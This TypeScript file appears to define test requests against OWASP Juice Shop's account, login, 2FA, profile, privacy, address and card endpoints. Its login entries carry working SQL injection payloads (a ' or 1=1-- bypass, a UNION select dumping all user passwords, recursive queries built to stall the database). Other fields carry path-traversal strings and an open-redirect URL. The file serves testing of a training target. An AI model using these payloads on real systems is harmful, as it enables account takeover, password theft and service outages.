import { ask, type Calls, DENIED, fillIn, LONG_HEADER, LONG_TEXT, send, text, upload } from '../call.ts'

const EVERYBODY = `' or 1=1--`
const FOREVER = 'with recursive c(x) as (select 1 union all select x+1 from c) select'
const TWELVE = '2,3,4,5,6,7,8,9,10,11,12,null'
const union = (first: string, from = ''): string => `' union select ${first},${TWELVE} ${from}--`
const login = (name: string, email: string, untilDeadline?: true) =>
  send(
    name,
    'POST',
    '/rest/user/login',
    { email, password: 'x' },
    { who: 'nobody', ...(untilDeadline && { untilDeadline }) },
  )
const PNG = Buffer.concat([Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'), Buffer.alloc(90_000)])

/** Accounts, sessions, profiles and privacy. */
export const peopleCalls: Calls = {
  'POST /rest/user/login': [
    send('login', 'POST', '/rest/user/login', { email: 'jim@juice-sh.op', password: 'ncc-1701' }),
    login('login: everybody', EVERYBODY),
    login('login: sort everybody', `' or 1=1 order by hex(email||password)--`),
    login(
      'login: everybody by everybody',
      `' or (select count(*) from Users a, Users b, Users c) > 1--`,
      true,
    ),
    login('login: count for ever', `' or (${FOREVER} count(*) from c) > 1--`, true),
    login('login: a bulky answer', union('hex(zeroblob(400000))')),
    login('login: bytes', union('zeroblob(900000)')),
    login('login: all users at once', union('(select json_group_array(password) from Users)')),
    login('login: a long address', text(`a@`, LONG_TEXT / 2)),
    login('login: 20,000 brackets', `' or ${text('(', 20_000)}1${text(')', 20_000)}--`),
  ],
  'POST /rest/magic-link': [
    send('magic link', 'POST', '/rest/magic-link', { email: 'jim@juice-sh.op' }, { who: 'nobody' }),
    send('magic link: a long address', 'POST', '/rest/magic-link', { email: text('a@', LONG_TEXT / 2) }),
  ],
  'GET /magic/:code': [
    ask('magic link: a long code', `/magic/${text('a', 3_000)}?email=${text('%40', 2_000)}`, {
      who: 'nobody',
    }),
  ],
  'GET /rest/user/whoami': [
    ask('whoami', `/rest/user/whoami?fields=${text('id,', 3_000)}&callback=${text('a', 3_000)}`),
  ],
  'GET /rest/saveLoginIp': [
    ask('saveLoginIp', '/rest/saveLoginIp', { headers: { 'true-client-ip': text('<', LONG_HEADER) } }),
  ],
  'GET /rest/user/authentication-details': [
    ask('authentication-details', '/rest/user/authentication-details', { who: 'admin' }),
  ],
  'GET /api/Users': [
    ask('Users', '/api/Users', { who: 'admin' }),
    ask('Users: sorted', '/api/Users?sort=-profileImage,username,email', { who: 'admin' }),
    ask('Users: searched', `/api/Users?q=${text('%25_', 16)}`, { who: 'admin' }),
  ],
  'GET /api/Users/:id': [ask('User', '/api/Users/12000')],
  'POST /api/Users': [
    send(
      'register',
      'POST',
      '/api/Users',
      (turn) => ({
        email: `new-${turn}-${text('x', 200)}@garden.example`,
        username: text('<a', LONG_TEXT / 3),
        password: text('x', 1_000),
        passwordRepeat: text('x', 1_000),
      }),
      { who: 'nobody' },
    ),
    send('register: many fields', 'POST', '/api/Users', `{${text('"a":1,', 15_000)}"b":1}`),
    send('register: brackets', 'POST', '/api/Users', text('[')),
  ],
  'PUT /api/Users/:id': DENIED,
  'DELETE /api/Users/:id': DENIED,
  'GET /rest/user/change-password': [
    ask(
      'change-password',
      `/rest/user/change-password?current=${text('x', 6_000)}&new=${text('y', 3_000)}&repeat=${text('y', 3_000)}`,
    ),
  ],
  'GET /rest/user/security-question': [
    ask('security-question', '/rest/user/security-question?email=guest-12000@garden.example'),
  ],
  'POST /rest/user/reset-password': [
    send('reset-password', 'POST', '/rest/user/reset-password', {
      email: 'guest-12000@garden.example',
      answer: text('x'),
      new: '12345',
      repeat: '12345',
    }),
  ],
  'GET /rest/user/reset-password': 'only counted, as the POST is',
  'PUT /rest/user/reset-password': 'only counted, as the POST is',
  'PATCH /rest/user/reset-password': 'only counted, as the POST is',
  'DELETE /rest/user/reset-password': 'only counted, as the POST is',
  'GET /api/SecurityQuestions': [ask('SecurityQuestions', `/api/SecurityQuestions?q=${text('%25_', 16)}`)],
  'GET /api/SecurityQuestions/:id': DENIED,
  'POST /api/SecurityQuestions': DENIED,
  'PUT /api/SecurityQuestions/:id': DENIED,
  'DELETE /api/SecurityQuestions/:id': DENIED,
  'GET /api/SecurityAnswers': DENIED,
  'GET /api/SecurityAnswers/:id': DENIED,
  'POST /api/SecurityAnswers': [
    send('SecurityAnswers', 'POST', '/api/SecurityAnswers', {
      UserId: 2,
      SecurityQuestionId: 1,
      answer: text('x'),
    }),
  ],
  'PUT /api/SecurityAnswers/:id': DENIED,
  'DELETE /api/SecurityAnswers/:id': DENIED,
  'POST /rest/2fa/verify': [
    send('2fa verify', 'POST', '/rest/2fa/verify', { tmpToken: text('a.'), totpToken: text('1', 1_000) }),
  ],
  'GET /rest/2fa/status': [ask('2fa status', '/rest/2fa/status')],
  'POST /rest/2fa/setup': [
    send('2fa setup', 'POST', '/rest/2fa/setup', {
      setupToken: text('a.', 40_000),
      password: text('x', 999),
    }),
  ],
  'POST /rest/2fa/disable': [send('2fa disable', 'POST', '/rest/2fa/disable', { password: text('x') })],
  'GET /oauth/authorize': [ask('oauth', `/oauth/authorize?state=${text('<', LONG_HEADER)}`)],
  'POST /oauth/authorize': [
    fillIn('oauth: consent', '/oauth/authorize', { consent: 'yes', person: '1', state: text('x', 9_000) }),
  ],
  'GET /oauth/userinfo': [ask('oauth: who', `/oauth/userinfo?access_token=${text('a.', 6_000)}`)],
  'GET /profile': [ask('profile', '/profile')],
  'POST /profile': [
    fillIn('rename', '/profile', { username: text('<', 30_000) }),
    fillIn('rename: nested tags', '/profile', { username: text('<<a|as', 5_000) }),
  ],
  'POST /profile/image/file': [
    upload('picture', '/profile/image/file', {
      field: 'file',
      file: 'me.png',
      type: 'image/png',
      bytes: PNG,
    }),
  ],
  'POST /profile/image/url': [
    fillIn('picture by address', '/profile/image/url', {
      imageUrl: `http://nobody.example/${text('a', 30_000)}`,
    }),
    fillIn('picture by our address', '/profile/image/url', {
      imageUrl: 'http://localhost:3000/redirect?to=https://github.com/juice-shop/juice-shop',
    }),
  ],
  'GET /rest/image-captcha': [ask('image-captcha', '/rest/image-captcha')],
  'POST /rest/user/data-export': [send('data-export', 'POST', '/rest/user/data-export', { format: '1' })],
  'GET /dataerasure': [ask('erasure: page', '/dataerasure')],
  'POST /dataerasure': [
    fillIn('erasure', '/dataerasure', {
      email: 'jim@juice-sh.op',
      securityAnswer: 'wrong',
      layout: text('../', 9_000),
    }),
  ],
  'POST /rest/user/erasure-request': [send('erasure-request', 'POST', '/rest/user/erasure-request', {})],
  'POST /api/PrivacyRequests': [
    send('PrivacyRequests', 'POST', '/api/PrivacyRequests', { deletionRequested: true }),
  ],
  'GET /api/PrivacyRequests': DENIED,
  'GET /api/PrivacyRequests/:id': DENIED,
  'PUT /api/PrivacyRequests/:id': DENIED,
  'DELETE /api/PrivacyRequests/:id': DENIED,
  'GET /api/Addresss': [
    ask('Addresss', '/api/Addresss'),
    ask('Addresss: sorted and searched', `/api/Addresss?sort=-city,state,fullName&q=${text('%25x', 16)}`),
  ],
  'GET /api/Addresss/:id': [ask('Address', '/api/Addresss/100')],
  'POST /api/Addresss': [
    send('Addresss: new', 'POST', '/api/Addresss', {
      fullName: text('x', 255),
      mobileNum: 1234567890,
      zipCode: '4030',
      streetAddress: text('x', 160),
      city: text('x', 255),
      state: text('x', 255),
      country: text('x', 255),
    }),
  ],
  'PUT /api/Addresss/:id': [send('Address: change', 'PUT', '/api/Addresss/100', { city: text('x') })],
  'DELETE /api/Addresss/:id': [ask('Address: gone', (turn) => `/api/Addresss/${200 + turn}`, {}, 'DELETE')],
  'GET /api/Cards': [ask('Cards', '/api/Cards')],
  'GET /api/Cards/:id': [ask('Card', '/api/Cards/100')],
  'POST /api/Cards': [
    send('Cards: new', 'POST', '/api/Cards', {
      fullName: text('x', 255),
      cardNum: 4815205605542754,
      expMonth: 12,
      expYear: 2092,
    }),
  ],
  'DELETE /api/Cards/:id': [ask('Card: gone', (turn) => `/api/Cards/${200 + turn}`, {}, 'DELETE')],
  'PUT /api/Cards/:id': DENIED,
}
